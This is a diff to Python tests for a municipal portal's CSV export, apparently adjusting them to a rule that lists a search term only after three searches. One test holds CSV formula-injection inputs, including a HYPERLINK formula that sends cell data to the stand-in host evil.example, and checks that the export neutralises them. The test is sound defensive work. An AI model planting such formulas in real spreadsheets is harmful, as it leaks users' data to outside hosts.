@@ -121,9 +121,9 @@ def cockpit_data(office_user, municipality_user, municipality_org, provider_org)
     for person in [municipality_user, *others]:
         events.register(actor=person, workshop=workshop)  # 1 confirmed, 2 waiting
     MunicipalityFactory(ags="06611000", name="Kassel", district_ags="06611", district="Kassel")
-    record_search('Parken, "Altstadt"', 0)
+    for _ in range(3):  # a term is listed once three visitors searched it
+        record_search('Parken, "Altstadt"', 0)
     record_search("Glasfaser Ausbau", 0)
-    record_search('Parken, "Altstadt"', 0)
     today = timezone.localdate()
     return DateRange(today - dt.timedelta(days=40), today + dt.timedelta(days=30))
 
@@ -167,7 +167,7 @@ def test_text_cells_with_commas_and_quotes_survive_the_export(
     query = f"?von={period.start.isoformat()}&bis={period.end.isoformat()}"
     client = client_for(office_user)
     searches = client.get(f"{URL}ohne-treffer.csv{query}").content.decode("utf-8-sig")
-    assert dict(read(searches)[1:])['Parken, "Altstadt"'] == "2"
+    assert dict(read(searches)[1:])['Parken, "Altstadt"'] == "3"
     workshops = client.get(f"{URL}veranstaltungen.csv{query}").content.decode("utf-8-sig")
     (row,) = read(workshops)[1:]
     assert row[:2] == ['Wasser, Forst und "Klima"', "1"]
@@ -184,7 +184,7 @@ def test_a_search_term_never_runs_as_a_formula_in_the_spreadsheet(client_for, of
     from api.searchlog import record_search
 
     terms = ['=HYPERLINK("https://evil.example/?x="&A1;"Details")', "@SUMME(A1)", "-2+3"]
-    for term in terms:
+    for term in terms * 3:  # listed once three visitors searched it
         record_search(term, 0)
     today = timezone.localdate()
     query = f"?von={today.isoformat()}&bis={today.isoformat()}"
